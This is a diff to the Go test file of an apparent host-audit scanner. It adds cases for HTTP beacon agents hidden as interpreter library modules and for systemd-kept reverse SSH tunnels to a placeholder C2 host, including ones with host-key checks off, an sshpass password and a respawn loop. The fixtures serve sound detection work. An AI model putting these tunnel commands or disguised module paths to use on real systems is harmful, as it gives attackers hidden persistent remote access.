@@ -286,6 +286,23 @@ func pollingCases() []carrierCase {
 	for i, c := range ruby {
 		out = append(out, carrierCase{"http-c2-ruby", fmt.Sprintf("/opt/agent/a%d.rb", i), c, []string{RuleHTTPAgent}, audit.High})
 	}
+	// The same agents hidden as modules of the interpreters' libraries, where the code must
+	// also pause and run a command line through a shell to be read (an agent that runs code
+	// of its own language, exec(r.text), is not looked for there).
+	lib := []struct {
+		technique, dir, ext string
+		codes               []string
+	}{
+		{"http-c2-python-module", "/usr/lib/python3/dist-packages/sysupdate/", ".py", []string{py[0], py[1], py[2], py[3], py[4], py[5]}},
+		{"http-c2-node-module", "/usr/lib/node_modules/npm-sync/lib/", ".js", node},
+		{"http-c2-perl-module", "/usr/share/perl5/Net/", ".pm", perl},
+		{"http-c2-ruby-module", "/usr/lib/ruby/vendor_ruby/sync/", ".rb", ruby},
+	}
+	for _, l := range lib {
+		for i, c := range l.codes {
+			out = append(out, carrierCase{l.technique, fmt.Sprintf("%sbeacon%d%s", l.dir, i, l.ext), c, []string{RuleHTTPAgent}, audit.High})
+		}
+	}
 	return out
 }
 
@@ -320,5 +337,46 @@ func carrierCleanCases() []carrierCase {
 		cl("http-c2", "/opt/ci/bot.py", "import requests, subprocess, time\nwhile True:\n    st = requests.get('https://ci.example.com/api/status').json()\n    if st['pending']:\n        res = subprocess.run(['git', 'pull'], capture_output=True, text=True)\n        requests.post('https://ci.example.com/api/log', data=res.stdout)\n    time.sleep(60)\n"),
 		cl("http-c2", "/usr/local/bin/heartbeat.sh", "#!/bin/sh\nwhile true; do\n  up=$(uptime)\n  curl -fsS -d \"host=$(hostname)&up=$up\" https://mon.example.com/beat\n  curl -fsS -o /var/lib/app/motd https://mon.example.com/motd\n  sleep 300\ndone\n"),
 		cl("http-c2", "/opt/mon/poll.pl", "use LWP::UserAgent;\nmy $ua = LWP::UserAgent->new;\nwhile (1) {\n  my $s = $ua->get('https://status.example.com/api')->decoded_content;\n  my $o = `uptime`;\n  $ua->post('https://metrics.example.com/up', { o => $o, s => $s });\n  sleep 60;\n}\n"),
+	}
+}
+
+// TestServiceTunnelSeverity: an autossh or ssh -N reverse tunnel that a systemd unit keeps up
+// as an unprivileged user, with host keys checked and nothing typed for it, is the shape of
+// an administrator's tunnel and is held at medium; the same unit as root, or with host keys
+// unchecked, a password typed or a tun device, stays critical.
+func TestServiceTunnelSeverity(t *testing.T) {
+	h := "tunnel@" + c2Host
+	unit := func(user, exec string) string {
+		u := "[Unit]\nDescription=tunnel\n[Service]\n"
+		if user != "" {
+			u += "User=" + user + "\n"
+		}
+		return u + "ExecStart=" + exec + "\nRestart=always\n[Install]\nWantedBy=multi-user.target\n"
+	}
+	tests := []struct {
+		name, text string
+		want       audit.Severity
+	}{
+		{"autossh as a service user", unit("tunnel", "/usr/bin/autossh -M 0 -N -q -i /home/tunnel/.ssh/id_ed25519 -o ServerAliveInterval=30 -R 1195:localhost:1195 "+h), audit.Medium},
+		{"ssh -N as a service user", unit("reinhard", "/usr/bin/ssh -NT -o ExitOnForwardFailure=yes -R 2223:localhost:2222 "+h), audit.Medium},
+		{"autossh as root", unit("root", "/usr/bin/autossh -M 0 -N -R 1195:localhost:1195 "+h), audit.Critical},
+		{"autossh with no user", unit("", "/usr/bin/autossh -M 0 -N -R 1195:localhost:1195 "+h), audit.Critical},
+		{"host keys unchecked", unit("tunnel", "/usr/bin/autossh -M 0 -N -o StrictHostKeyChecking=no -R 9022:localhost:22 "+h), audit.Critical},
+		{"known hosts thrown away", unit("tunnel", "/usr/bin/ssh -N -o UserKnownHostsFile=/dev/null -R 9022:localhost:22 "+h), audit.Critical},
+		{"password typed", unit("tunnel", "/usr/bin/sshpass -p hunter2 ssh -N -R 9022:localhost:22 "+h), audit.Critical},
+		{"tun device", unit("tunnel", "/usr/bin/ssh -N -w 0:0 "+h), audit.Critical},
+		{"loop as a user", unit("tunnel", "/bin/sh -c 'while true; do ssh -N -R 4422:127.0.0.1:22 "+h+"; sleep 30; done'"), audit.Critical},
+	}
+	for _, tc := range tests {
+		fs := scanFile("/etc/systemd/system/tunnel.service", tc.text)
+		var got []audit.Severity
+		for _, f := range fs {
+			if f.Rule == RuleTunnel {
+				got = append(got, f.Severity)
+			}
+		}
+		if len(got) != 1 || got[0] != tc.want {
+			t.Errorf("%s: tunnel severities %v, want %v\n%s", tc.name, got, tc.want, dump(fs))
+		}
 	}
 }
